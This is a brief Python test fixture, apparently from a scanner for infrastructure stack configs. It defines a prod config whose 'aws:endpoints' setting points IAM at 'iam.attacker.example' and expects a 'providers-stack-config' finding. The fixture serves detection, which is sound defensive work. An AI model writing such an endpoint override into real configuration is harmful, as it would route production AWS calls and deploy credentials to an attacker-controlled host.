"""The local stack's endpoints copied into prod's stack file (`aws:endpoints`): every AWS call
of the default provider would go wherever they point, with prod's deploy credentials."""

CLASS = "c"
CONFIG = {
    "aws:endpoints": [{"dynamodb": "http://127.0.0.1:4560", "iam": "https://iam.attacker.example"}]
}
EXPECT = [("providers-stack-config", "sets endpoints (sends AWS calls to other endpoints")]
